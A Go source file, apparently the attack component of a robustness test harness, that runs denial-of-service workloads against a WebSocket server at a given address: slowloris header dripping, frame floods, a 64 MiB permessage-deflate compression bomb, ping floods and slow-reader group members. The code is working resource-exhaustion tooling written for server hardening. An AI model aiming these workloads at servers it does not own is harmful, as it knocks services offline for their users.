package main

import (
	"bytes"
	"compress/flate"
	"flag"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/gobwas/ws"
)

// attack is the part of the program that does to a server what -kind says, until it is killed. It
// prints "attacking" once it has begun.
func attack(args []string) error {
	f := flag.NewFlagSet("attack", flag.ExitOnError)
	addr := f.String("addr", "", "server's address")
	kind := f.String("kind", "", "see the workloads")
	_ = f.Parse(args)
	a := attacker{addr: *addr}
	begin, ok := map[string]func(){
		"none": func() {},
		"loris": func() {
			a.drip(10_000, false, []byte(request), func(sent int) []byte { return []byte("X-Slow: slow\r\n")[sent%14:][:1] })
		},
		"drip": func() {
			a.drip(1000, true, frameOf(ws.OpBinary, "x", false), func(int) []byte { return frameOf(ws.OpContinuation, "x", false) })
		},
		"bytes": func() {
			a.flood(frameOf(ws.OpBinary, "x", false), frameOf(ws.OpContinuation, "x", false), frameOf(ws.OpContinuation, "x", true), 16<<20)
		},
		"bomb":  a.bombs,
		"pings": a.pings,
		"deaf":  a.deaf,
	}[*kind]
	if !ok {
		return fmt.Errorf("no attack %q", *kind)
	}
	begin()
	fmt.Println("attacking")
	select {}
}

type attacker struct {
	addr string
	keep sync.Map // connections, so that none is collected
}

// dial connects; with shake it makes a handshake that offers compression.
func (a *attacker) dial(shake bool) net.Conn {
	nc, err := net.Dial("tcp", a.addr)
	must(err)
	a.keep.Store(nc, true)
	if shake {
		_, err := io.WriteString(nc, request+"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
		must(err)
		p := make([]byte, 4096)
		n, err := nc.Read(p)
		must(err)
		if !bytes.HasPrefix(p[:n], []byte("HTTP/1.1 101")) {
			must(fmt.Errorf("the handshake's answer is %q", p[:n]))
		}
	}
	return nc
}

// frameOf is a masked frame. Its key is 0, so that the payload is as it is.
func frameOf(op ws.OpCode, payload string, fin bool) []byte {
	f := ws.NewFrame(op, fin, []byte(payload))
	f.Header.Masked = true
	p, err := ws.CompileFrame(f)
	must(err)
	return p
}

// drip has n peers send first, and then something each second.
func (a *attacker) drip(n int, shake bool, first []byte, then func(sent int) []byte) {
	all := make([]net.Conn, n)
	for i := range all {
		all[i] = a.dial(shake)
		_, err := all[i].Write(first)
		must(err)
	}
	go func() {
		for sent := 0; ; sent++ {
			begin := time.Now()
			for i, nc := range all {
				_, _ = nc.Write(then(sent))
				if i%100 == 99 { // spread over the second
					time.Sleep(time.Until(begin.Add(time.Duration(i) * time.Second / time.Duration(n))))
				}
			}
		}
	}()
}

// flood sends messages of n bytes, each in a frame of its own, as fast as the server takes them. It
// does not read.
func (a *attacker) flood(first, more, last []byte, n int) {
	nc := a.dial(true)
	go io.Copy(io.Discard, nc)
	burst := slices.Repeat(more, 4096)
	go func() {
		for {
			_, _ = nc.Write(first)
			for range n/4096 - 1 {
				if _, err := nc.Write(burst); err != nil {
					must(err)
				}
			}
			_, _ = nc.Write(last)
		}
	}()
}

// bombs has eight peers send a message that inflates to 64 MiB, and connect again when they are
// thrown out.
func (a *attacker) bombs() {
	var b bytes.Buffer
	z, _ := flate.NewWriter(&b, flate.BestCompression)
	zeros := make([]byte, 1<<20)
	for range 64 {
		_, _ = z.Write(zeros)
	}
	_ = z.Flush()
	h := ws.NewFrame(ws.OpBinary, true, bytes.TrimSuffix(b.Bytes(), []byte("\x00\x00\xff\xff")))
	h.Header.Rsv, h.Header.Masked = ws.Rsv(true, false, false), true
	bomb, err := ws.CompileFrame(h)
	must(err)
	for range 8 {
		go func() {
			for {
				nc := a.dial(true)
				_, _ = nc.Write(bomb)
				_, _ = io.Copy(io.Discard, nc)
				nc.Close()
				a.keep.Delete(nc)
				time.Sleep(10 * time.Millisecond)
			}
		}()
	}
}

// pings sends 100,000 pings a second and reads the answers.
func (a *attacker) pings() {
	nc := a.dial(true)
	go io.Copy(io.Discard, nc)
	burst := slices.Repeat(frameOf(ws.OpPing, "ping", true), 1000)
	go func() {
		for range time.Tick(10 * time.Millisecond) {
			_, err := nc.Write(burst)
			must(err)
		}
	}()
}

// deaf joins 100 members that never read, and has one write 10 KB to the group of all 100
// times a second. The server makes a member of who asks for it by a text.
func (a *attacker) deaf() {
	for range 100 {
		_, err := a.dial(true).Write(frameOf(ws.OpText, "join", true))
		must(err)
	}
	nc := a.dial(true)
	message := frameOf(ws.OpText, strings.Repeat("x", 10_000), true)
	go func() {
		for range time.Tick(10 * time.Millisecond) {
			_, err := nc.Write(message)
			must(err)
		}
	}()
}
